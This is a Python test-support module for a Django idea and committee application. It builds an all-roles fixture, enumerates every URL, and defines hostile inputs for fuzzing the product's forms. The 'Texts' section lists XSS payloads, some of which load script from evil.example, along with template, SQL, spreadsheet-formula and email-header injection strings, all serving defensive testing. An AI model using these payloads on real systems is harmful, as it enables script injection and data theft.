"""A product in full swing, every address of it, and the texts that break careless software."""

import uuid
from datetime import timedelta

from django.db import transaction
from django.test import Client, RequestFactory
from django.test.client import ClientHandler
from django.urls import URLPattern, get_resolver, reverse

from committee.models import Minutes
from committee.services.asking import ask_for_point
from committee.services.documents import ask_for_document
from ideas.enums import DecisionOutcome
from ideas.models import Idea
from ideas.outcomes import WAYS
from ideas.portfolio import Portfolio
from ideas.services.board_keys import make_display_key
from ideas.services.comments import hide_comment, report_comment, write_comment
from ideas.services.follow_up import hold_work, start_work, verify_effect
from ideas.services.opinions import rate_again, settle_opinions
from ideas.services.portfolio import save_view
from ideas.services.reference_ideas import retire_reference
from ideas.services.triage import assess_idea
from parkour.core import clock
from tests.committee.pages import BACKEND
from tests.committee.workshopping import Led, workshop_at
from tests.days import meeting_day
from tests.factories import IdeaFactory, SessionFactory, SiteFactory, UserFactory, committee_of
from tests.factories.committee import call_with, open_consultation, open_session_with
from tests.hostile_effects import NAMESPACES, effects_for, number_at
from tests.ideas.campaigning import announced
from tests.ideas.capturing import answer, typed
from tests.ideas.files.lives import added
from tests.ideas.lives import decided, done
from tests.ideas.referring import candidate, reference
from tests.remembered import remembered

BACK_OFFICE = ("accounts_user", "organisation_site", "organisation_closure", "committee_mandate", "committee_session")
# Parts of an address whose value no row of ours gives.
OTHER_PARTS = {
    "uuid": "6b7d4c0e-96c5-4a3e-9b0a-0f1f6f6f2d11",
    "uidb36": "1",
    "key": "abc-def",
    "token": "1.mine:not-signed",
    "language": "fr",
    "page": "new",
    "version": 1,
    "paper": "a4",
    "side": "employees",
}
OF_ONES_OWN_COMMENT, OF_ANOTHER = ("edit", "remove"), ("report", "hide", "keep", "restore")
COMMENT_ACTS = OF_ONES_OWN_COMMENT + OF_ANOTHER
# Where each address with a reference has something to do; the others are tried on a contribution under review.
AT_WORK_ON = {
    "engagements:success": "done",
    "engagements:new_standard": "done",
    "committee:documents": "shortlisted",
    "ideas:answer": "asked",
    "ideas:withdraw": "own",
    "ideas:receipt": "own",
    "ideas:disown": "typed",
    "ideas:say": "to_say",
    "ideas:appeal": "own_declined",
    "ideas:hide_name": "own",
    "ideas:show_name": "unnamed",
    "ideas:confirm": "own_done",
    "ideas:dispute": "own_done",
    "ideas:quick_win": "invited",
    "ideas:decide": "assessed",
    "ideas:withdraw_quick_win": "fast_track",
    "ideas:talk_over": "apart",
    "ideas:begin_talk": "apart",
    "ideas:settle_opinions": "rated_again",
    "ideas:make_reference": "assessed_alone",
    **dict.fromkeys(("ideas:retire_reference", "ideas:calibrate"), "reference"),
    "ideas:restore_reference": "retired_reference",
    "ideas:reshortlist": "deferred",
    "ideas:park": "deferred",
    "ideas:unpark": "parked",
    "ideas:promote": "workshop",
    "ideas:return_from_workshop": "workshop",
    "ideas:reopen": "rejected",
    "ideas:arbitrate": "recommended",
    "ideas:action": "moving",
    "committee:object": "in_window",
    **dict.fromkeys(("ideas:support", "ideas:withdraw_support", "ideas:follow", "ideas:unfollow"), "shortlisted"),
    "ideas:comment": "shortlisted",
    **dict.fromkeys((f"ideas:comment_{act}" for act in COMMENT_ACTS), "shortlisted"),
    "committee:add_item": "shortlisted",
}
OUTCOMES = tuple(WAYS)
STEPS = {
    "start": "approved",
    "news": "moving",
    "confirm": "moving",
    "hold": "moving",
    "abandon": "moving",
    "resume": "waiting",
    "dispute": "done",
    "verify": "done",
    "publish": "done",
    "close": "verified",
}
UPCOMING = (
    "agenda", "propose", "add_subject", "add_item", "release", "set_up", "convene", "postpone", "take_back_move",
    "cancel", "ask_point", "take_back_point", "together", "place_together",
)  # fmt: skip
OF_A_DOCUMENT = ("document", "document_arrived", "document_missing", "drop_document")
EDITOR = ("move_item", "pin_item", "item_duration", "item_presenter", "remove_item")
OF_PUBLISHED_MINUTES = ("object_to_minutes", "correct_minutes")
OF_A_POLL = ("vote", "close_poll", "reveal", "extend_poll", "second_reading", "void_poll")

OF_A_CONSULTATION = ("consultation", "answer_consultation", "cancel_consultation")
OF_A_MANDATE = ("mandate", "renew_mandate", "end_mandate", "preside", "take_seat")
# Addresses of a workshop that have something to do at one step; the others are tried on one that is prepared.
AT_STEP = {
    **dict.fromkeys(("workshop_ideas", "workshop_timer", "remove_workshop_idea", "workshop_state"), "ideas"),
    "workshop_groups": "grouping",
    **dict.fromkeys(("new_variant", "variant", "remove_variant", "workshop_place"), "variants"),
    "workshop_dots": "vote",
    "propose_variants": "committee",
    **dict.fromkeys(("workshop", "workshop_step", "change_workshop", "close_workshop", "workshop_kit"), "prepared"),
}
OF_A_CALL = (
    "call", "apply", "ballot", "withdraw", "candidates", "choose", "draw", "drawn_text", "seat_next", "cancel_call",
)  # fmt: skip


class FullSwing:
    """One person with every role, and something at each moment of its life for them to work on."""

    @classmethod
    def now(cls):
        """The one that this process has made a moment ago, or a new one; nobody changes it but by the product."""
        return remembered((cls.__name__,), cls, life=15 * 60, shared=True)

    def __init__(self):
        poles = committee_of()
        self.person = poles["direction"][0]
        for role in ("officer", "reviewer", "facilitator", "sponsor", "admin"):
            self.person.grant(role)
        self.room = open_session_with(poles=poles)
        self.poll = self.room.poll()
        self.consultation = open_consultation(poles=poles)
        self.draft = SessionFactory(starts_at=clock.now() + timedelta(days=40))
        self.draft_item = self.draft.items.create(title="Point d’étape", block="report", position=1, duration=10)
        self.past, self.objection = self._published(poles["employees"][1])
        held = clock.now() - timedelta(days=2)
        self.missed = SessionFactory(starts_at=held, state="no_quorum", opened_at=held, closed_at=held)
        self.ideas = dict(self._ideas())
        self.comments = {act: self._comment(act) for act in COMMENT_ACTS}
        self.file = added(self.ideas["opened"], self.person)
        self.campaign, site = announced(), SiteFactory()
        self.screen, self.secret = make_display_key(site=site, name="Entrée", by=self.person)
        self.site_code = site.code
        self.view = save_view(Portfolio(), by=self.person, name="Vue")
        self.mandate = poles["employees"][1].mandates.get()
        self.candidacy_call, _people = call_with(self.person, [UserFactory()], words="Venez.", method="officer")
        waiting, by = self.ideas["shortlisted"], self.person
        self.document = ask_for_document(waiting, by=by, what="Devis", person=by)
        ask_for_point(self.draft, waiting, by=by, reason="Le contrat finit en mars.")
        self.workshops = {
            step: workshop_at(step, facilitator=by, writers=[by, UserFactory()]).workshop
            for step in sorted(set(AT_STEP.values()))
        }
        vary = Led(self.workshops["variants"], by, [], []).vary()
        self.variant = vary.workshop.variants.first()
        self.effects = effects_for(self.person)
        self._signed_in = Client()
        self._signed_in.force_login(self.person, backend=BACKEND)

    def _published(self, member):
        """(a session whose minutes are published, what a member finds wrong in them)."""
        held = clock.now() - timedelta(days=3)
        past = SessionFactory(starts_at=held, state="minutes_published", opened_at=held, closed_at=held)
        due = clock.now() + timedelta(days=6)
        minutes = Minutes.objects.create(
            session=past, note="Calme.", published_at=clock.now(), published_by=self.person, approval_due_at=due
        )
        return past, minutes.objections.create(person=member, words="Pas si calme.", at=clock.now())

    def _ideas(self):
        me, other = self.person, UserFactory()
        for name in ("opened", "assessed", "shortlisted", "workshop", "parked", "fast_track", "in_window"):
            yield name, IdeaFactory(author=other, **{name: True})
        yield from self._rated_twice()
        yield from self._references()
        yield "asked", IdeaFactory(author=me, needs_info=True)
        yield "own", IdeaFactory(author=me)
        yield "typed", typed(person=me)
        yield "to_say", answer(typed())
        yield "unnamed", IdeaFactory(author=me, visibility="name_hidden")
        yield "own_declined", IdeaFactory(author=me, declined=True)
        yield "own_done", done(IdeaFactory(author=me, shortlisted=True))
        invited = IdeaFactory(author=other, fast_track=True)
        Idea.objects.filter(pk=invited.pk).update(quick_win_owner=me)
        yield "invited", invited
        yield "done", done()
        for name in ("rejected", "deferred", "recommended"):
            yield name, decided(outcome=DecisionOutcome(name))
        yield "approved", decided(owner=me)
        moving, waiting = decided(owner=me), decided(owner=me)
        for idea in (moving, waiting):
            start_work(idea, by=me)
        hold_work(waiting, by=me, reason="Une pièce manque.", resume_on=clock.today() + timedelta(days=9))
        verified = done()
        verify_effect(verified, by=me, claim_level="demonstrated", effect="Une heure gagnée par semaine.")
        yield from {"moving": moving, "waiting": waiting, "verified": verified}.items()

    def _rated_twice(self):
        """Levels far apart: before the talk, after both have rated again, and when both agree."""
        levels = {"policy": 5, "novelty": 4, "impact": 5, "effort": 1}
        raters = (self.person, UserFactory(reviewer=True))
        for name in ("apart", "rated_again", "agreed"):
            idea = IdeaFactory(author=UserFactory(), opened=True)
            for number, rater in enumerate(raters):
                assess_idea(idea, by=rater, **levels | {"impact": 5 - 3 * number})
            for rater in raters if name != "apart" else ():
                rate_again(idea, by=rater, **levels)
            if name == "agreed":
                settle_opinions(idea, by=self.person, reason="Toutes les agences sont concernées.")
            yield name, Idea.objects.get(pk=idea.pk)

    def _references(self):
        """One that may become a reference of the grid, three that are and one that was."""
        yield "assessed_alone", candidate()
        made = [reference(as_levels={"impact": 5}).idea for _number in range(4)]
        retire_reference(made[3], by=UserFactory(officer=True))
        yield from {"reference": made[0], "retired_reference": made[3]}.items()

    def _comment(self, act):
        writer = self.person if act in OF_ONES_OWN_COMMENT else UserFactory()
        comment, _new = write_comment(self.ideas["shortlisted"], by=writer, body="Chez nous aussi.", key=uuid.uuid4())
        report_comment(comment, by=UserFactory(), reason="hurtful")
        return hide_comment(comment, by=UserFactory(officer=True), reason="À revoir.") if act == "restore" else comment

    def client(self):
        """A new browser of this person; one session serves them all."""
        client = Client()
        client.cookies = self._signed_in.cookies.copy()
        return client

    def addresses(self):
        """(name, address) of every page of the product, where it has something to do."""
        for name, parts in sorted(set(named_addresses())):
            for kwargs in self._places(name, parts):
                yield name, reverse(name, kwargs=kwargs)
        for model in BACK_OFFICE:
            yield f"admin:{model}_changelist", reverse(f"admin:{model}_changelist")
        for model in BACK_OFFICE[:-1]:
            yield f"admin:{model}_add", reverse(f"admin:{model}_add")
        yield "admin:accounts_user_change", reverse("admin:accounts_user_change", args=[self.person.pk])

    def _places(self, name, parts):
        place = {part: self._part(name, part) for part in parts if part not in {"outcome", "step"}}
        if "outcome" in parts:
            return [place | {"outcome": outcome} for outcome in OUTCOMES]
        if "step" in parts:
            return [{"step": step, "reference": self.ideas[moment].reference} for step, moment in STEPS.items()]
        return [place]

    def _part(self, name, part):
        namespace, _colon, short = name.partition(":")
        if part == "pk" and namespace in NAMESPACES:
            return number_at(name, self.effects)
        if part == "reference":
            return self.ideas[AT_WORK_ON.get(name, "opened")].reference
        if part == "number":
            if short in OF_PUBLISHED_MINUTES:
                return self.past.number
            if short == "reconvene":
                return self.missed.number
            return self.draft.number if short in UPCOMING else self.room.session.number
        if part == "pk" and short == "refuse_objection":
            return self.objection.pk
        if part == "pk" and short == "revoke_board_key":
            return self.screen.pk
        if part == "pk" and short in OF_A_MANDATE:
            return self.mandate.pk
        if part == "pk" and short in OF_A_DOCUMENT:
            return self.document.pk
        if part == "pk" and short in AT_STEP:
            return self.workshops[AT_STEP[short]].pk
        if part == "variant":
            return self.variant.pk
        if part == "pk" and short in OF_A_CONSULTATION:
            return self.consultation.pk
        if part == "pk" and short in OF_A_CALL:
            return self.candidacy_call.pk
        if part == "pk":
            if short.startswith("comment_"):
                return self.comments[short.removeprefix("comment_")].pk
            item = self.draft_item if short in EDITOR else self.room.item
            return self.poll.pk if short in OF_A_POLL else item.pk
        if part == "code":
            return self.site_code if short in {"site_poster", "short_site"} else self.campaign.code
        if part == "other":
            return self.ideas["assessed"].reference
        if part == "view":
            return self.view.pk
        if part == "secret":
            return self.secret
        if part == "file":
            return self.file.key
        return OTHER_PARTS[part]


def named_addresses(patterns=None, namespace=""):
    """(name, parts of the address) of every named address, the back office left aside."""
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(entry, URLPattern):
            if entry.name:
                yield namespace + entry.name, (*sorted({*entry.pattern.converters, *entry.pattern.regex.groupindex}),)
        elif entry.namespace != "admin":
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from named_addresses(entry.url_patterns, inner)


def undone(call):
    """The answer of `call()`, and nothing of what it wrote."""
    with transaction.atomic():
        answer = call()
        transaction.set_rollback(True)
    return answer


class Asking:
    """Asks without a client: it would keep a copy of all that every template was given."""

    def __init__(self, client=None, *, checks=False):
        self.make, self.handler = RequestFactory(), ClientHandler(enforce_csrf_checks=checks)
        if client is not None:
            self.make.cookies = client.cookies

    def get(self, address):
        return self.handler(self.make.get(address).environ)

    def post(self, address, body):
        return self.handler(self.make.post(address, body).environ)


# --- Texts ------------------------------------------------------------------------------------------------

# Markup that would run, or lead to something that runs, where it is taken for markup. `pwn` marks what is ours.
MARKUP = (
    "<script>alert(1)</script>",
    "</title></textarea></style><script src=//evil.example/x.js></script>",
    "<img src=x id=pwn onerror=alert(1)>",
    "\"><svg/onload=alert(1) id='pwn'>",
    "' autofocus onfocus=alert(1) x='",
    "<a href='javascript:alert(1)' id=pwn>lien</a>",
    "<a href='java\tscript:alert(1)'>lien</a>",
    "<a href='\x01javascript:alert(1)'>lien</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>lien</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='javascript:alert(1)'><button id=pwn>ok</button></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<base href='//evil.example/'>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
)
# Markdown, entities and templates: literal text everywhere, since nothing here reads them.
LITERAL = (
    "[lien](javascript:alert(1))",
    "[lien](JaVaScRiPt:alert(1))",
    "[lien](&#106;avascript:alert(1))",
    "[lien](javascript&colon;alert(1))",
    "[lien](\x01javascript:alert(1))",
    "[lien](data:text/html;base64,PHNjcmlwdD4=)",
    "[lien]: javascript:alert(1)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "{user.password} {0} {idea.authors}",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    "%s %(title)s %d %",
    "'; DROP TABLE ideas_idea; --",
    '=HYPERLINK("http://evil.example")',
    "titre\r\nBcc: victime@evil.example",
    "\x1b[31mrouge\x1b[0m\nFAUSSE LIGNE",
)
STRANGE = ("😀👩‍👩‍👧", "e\u0301te\u0301", "\u202eemor\u202c", "\u200b\u200d\ufeff", "１２３", "ﷺ" * 9, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A", "ي" * 30)
UNREADABLE = (
    "\x00",
    "a\x00b",
    "9" * 5000,
    "1" * 30,
    "-1",
    "NaN",
    "1e999",
    "0001-01-01",
    "9999-12-31",
    "2026-02-30",
    "١",
    "",
)

PARAMETERS = (
    "after", "before", "show", "tab", "to", "token", "control", "next", "page", "q", "policy", "novelty",
    "impact", "effort", "ordering", "e", "p", "o", "_popup", "again", "version", "id__exact",
    "site", "campaign", "kind", "year", "filters", "lang",
    "is_active__exact", "author__email__startswith", "filter", "person", "day", "_to_field",
)  # fmt: skip
# Every name that a form of the product reads, with a value that would do.
FIELDS = {
    "problem_text": "Deux heures d’attente entre deux passages.",
    "change_text": "Regrouper les passages par rue.",
    "speaker": "group",
    "group_names": "L’équipe du matin",
    "colleagues": "",
    "keep_unknown": "on",
    "scope": "collective",
    "client_uuid": "0d3f0b52-5f0c-4a1f-9a53-0c5f3a6c3f77",
    "body": "Merci, c’est noté.",
    "answer": "no",
    "reason": "Une raison en une phrase.",
    "words": "Une phrase de plus.",
    "because": "Deux agences l’ont confirmé.",
    "idea": "PKR-2026-9999",
    "policy": "4",
    "novelty": "na",
    "impact": "4",
    "effort": "1",
    "not_applicable_because": "Rien de comparable ici.",
    "title": "Regrouper les passages",
    "restatement": "Regrouper les passages par rue, le matin.",
    "readers": "author",
    "message": "Voici la suite donnée à votre contribution.",
    "review_on": "+60",
    "due_on": "+25",
    "resume_on": "+9",
    "channel": "hr",
    "reason_code": "cost",
    "proposal": "Une tournée par rue.",
    "status": "moving",
    "progress": "40",
    "note": "Première rue faite.",
    "evidence": "Les tournées sont regroupées.",
    "claim_level": "probable",
    "effect": "Une heure gagnée par semaine.",
    "you_said": "On attend.",
    "we_did": "On a regroupé.",
    "credits": "Merci à l’équipe.",
    "day": "+35",
    "at": "14:30",
    "place": "Salle Loire",
    "version": "0",
    "block": "report",
    "minutes": "5",
    "presenter": "",
    "visibility": "hidden",
    "choice": "yes",
    "key": "6b7d4c0e-96c5-4a3e-9b0a-0f1f6f6f2d12",
    "to": "up",
    "pinned": "yes",
    "then": "stay",
    "theme": "dark",
    "language": "fr",
    "first_name": "Camille",
    "last_name": "Essai",
    "job_title": "Intervenante",
    "owner": "",
    "into": "",
    "expected": "",
    "person": "",
    "next": "/",
    "shown": "yes",
    "origin": "card",
    "said_by": "Fatou",
    "reply": "Le matin, à la relève.",
    "why": "not_mine",
    "before_alt": "La salle en désordre",
    "after_alt": "La salle rangée",
}
WORDS = (
    "problem_text", "change_text", "group_names", "body", "reason", "words", "not_applicable_because", "title",
    "restatement", "message", "proposal", "note", "evidence", "effect", "you_said", "we_did", "credits",
    "place", "first_name", "last_name", "job_title", "said_by", "reply",
)  # fmt: skip
SHORT = {"first_name", "last_name", "job_title", "place", "said_by"}


def plausible(**changes):
    """A body that any form of the product takes; "+9" is a day on which one may meet, nine days from now or later."""
    body = FIELDS | changes
    return {name: meeting_day(int(value)).isoformat() if value[:1] == "+" else value for name, value in body.items()}


def in_every_text(*texts):
    """The plausible body with these texts in turn in every field that takes words."""
    turns = {name: texts[index % len(texts)] for index, name in enumerate(WORDS)}
    return plausible(**{name: turns[name][:80] if name in SHORT else f"Voici : {turns[name]}" for name in WORDS})
